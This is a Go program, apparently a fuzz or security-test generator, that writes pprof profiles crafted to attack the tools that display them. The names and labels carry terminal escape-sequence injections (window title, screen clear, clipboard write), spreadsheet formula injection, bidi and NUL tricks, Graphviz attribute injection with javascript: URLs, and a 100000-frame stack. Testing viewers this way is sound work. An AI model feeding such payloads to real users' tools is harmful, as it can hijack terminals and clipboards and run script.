// Command hostile writes profiles that attack a viewer rather than
// describe a program:
//
//	hostile.pb.gz  every string a viewer prints (function, file, mapping,
//	               build id, comment, sample type, label key and value,
//	               unit) carries terminal escape sequences: window title
//	               (OSC 0), screen clear (CSI 2J), clipboard write
//	               (OSC 52), 8-bit CSI (U+009B and a raw 0x9b byte),
//	               BEL, DEL, newlines and invalid UTF-8; one name is
//	               long enough to make a backtracking regexp explode.
//	               Output injection too: two names that differ only
//	               after a NUL, bidi overrides and zero-width
//	               characters, names a spreadsheet runs as formulas,
//	               and '"' in a label value, a file and the mapping's
//	               name to add Graphviz attributes (URL, href, image).
//	deep.pb.gz     one sample whose stack is 100000 frames deep, and
//	               20000 distinct functions.
//
// Build in GOPATH mode against the Debian pprof source:
//
//	GO111MODULE=off GOPATH=/usr/share/gocode go run main.go OUTDIR
package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/google/pprof/profile"
)

const (
	title   = "\x1b]0;pwned window title\x07"
	clear   = "\x1b[2J\x1b[H"
	osc52   = "\x1b]52;c;ZWNobyBwd25lZAo=\x07"
	csi8    = "\u009b31m"
	rawC1   = "\x9b31m"
	badUTF8 = "\xff\xfe\xc3"
	dotAttr = `" URL="javascript:alert(1)" href="javascript:alert(2)" image="evil.png`
)

func write(dir, name string, p *profile.Profile) {
	var buf bytes.Buffer
	if err := p.Write(&buf); err != nil {
		panic(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name), buf.Bytes(), 0o644); err != nil {
		panic(err)
	}
}

func hostile() *profile.Profile {
	m := &profile.Mapping{ID: 1, Start: 0x400000, Limit: 0x500000,
		File: "/bin/evil" + title + dotAttr, BuildID: "b1d" + clear,
		HasFunctions: true, HasFilenames: true, HasLineNumbers: true}
	names := []string{
		"main.title" + title,
		"main.clear" + clear,
		"main.clip" + osc52,
		"main.csi8" + csi8,
		"main.rawc1" + rawC1,
		"main.bell\x07del\x7f",
		"main.new\nline\ttab",
		"main.bad" + badUTF8,
		"main." + strings.Repeat("a", 100) + "!",
		"main.nul\x00hidden",
		"main.nul\x00other",
		"main.nul\xc0\x80lookalike",
		"main.bidi\u202eevil\u202c.\u2066iso\u2069",
		"main.zero\u200bwidth\u200d\u2060\ufeff",
		`=HYPERLINK("http://evil.example/","x")`,
		"@SUM(1+1)",
		"+cmd",
		"-2+3",
		"main.dot" + dotAttr,
		"main.ok",
	}
	p := &profile.Profile{
		SampleType: []*profile.ValueType{
			{Type: "samples", Unit: "count"},
			{Type: "cpu" + title, Unit: "nanoseconds"},
		},
		PeriodType:    &profile.ValueType{Type: "cpu", Unit: "nanoseconds"},
		Period:        10000000,
		TimeNanos:     1700000000000000000,
		DurationNanos: 3000000000,
		Comments:      []string{"comment" + clear + osc52, "#hidden" + title},
		Mapping:       []*profile.Mapping{m},
	}
	var locs []*profile.Location
	for i, n := range names {
		f := &profile.Function{ID: uint64(i + 1), Name: n, SystemName: n,
			Filename: "/src/" + n + ".go" + dotAttr, StartLine: 1}
		p.Function = append(p.Function, f)
		l := &profile.Location{ID: uint64(i + 1), Mapping: m,
			Address: 0x401000 + uint64(i)*0x10,
			Line:    []profile.Line{{Function: f, Line: int64(10 + i)}}}
		p.Location = append(p.Location, l)
		locs = append(locs, l)
	}
	root := locs[len(locs)-1]
	for i := 0; i < len(locs)-1; i++ {
		p.Sample = append(p.Sample, &profile.Sample{
			Location: []*profile.Location{locs[i], root},
			Value:    []int64{int64(i + 1), int64(i+1) * 10000000},
			Label: map[string][]string{"key" + title: {"value" + osc52},
				"k": {clear}, "bytes": {"v" + dotAttr}},
			NumLabel: map[string][]int64{"bytes" + csi8: {int64(1024 * (i + 1))}},
			NumUnit:  map[string][]string{"bytes" + csi8: {"bytes"}},
		})
	}
	return p
}

func deep() *profile.Profile {
	const nfunc, depth = 20000, 100000
	m := &profile.Mapping{ID: 1, File: "/bin/deep", HasFunctions: true}
	p := &profile.Profile{
		SampleType: []*profile.ValueType{{Type: "samples", Unit: "count"}},
		Mapping:    []*profile.Mapping{m},
	}
	for i := 0; i < nfunc; i++ {
		f := &profile.Function{ID: uint64(i + 1), Name: fmt.Sprintf("deep.f%06d", i)}
		p.Function = append(p.Function, f)
		p.Location = append(p.Location, &profile.Location{ID: uint64(i + 1),
			Mapping: m, Address: uint64(0x1000 + i),
			Line: []profile.Line{{Function: f, Line: 1}}})
	}
	s := &profile.Sample{Value: []int64{1}}
	for i := 0; i < depth; i++ {
		s.Location = append(s.Location, p.Location[i%nfunc])
	}
	p.Sample = append(p.Sample, s, &profile.Sample{
		Location: []*profile.Location{p.Location[0]}, Value: []int64{3}})
	return p
}

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: hostile OUTDIR")
		os.Exit(2)
	}
	write(os.Args[1], "hostile.pb.gz", hostile())
	write(os.Args[1], "deep.pb.gz", deep())
}
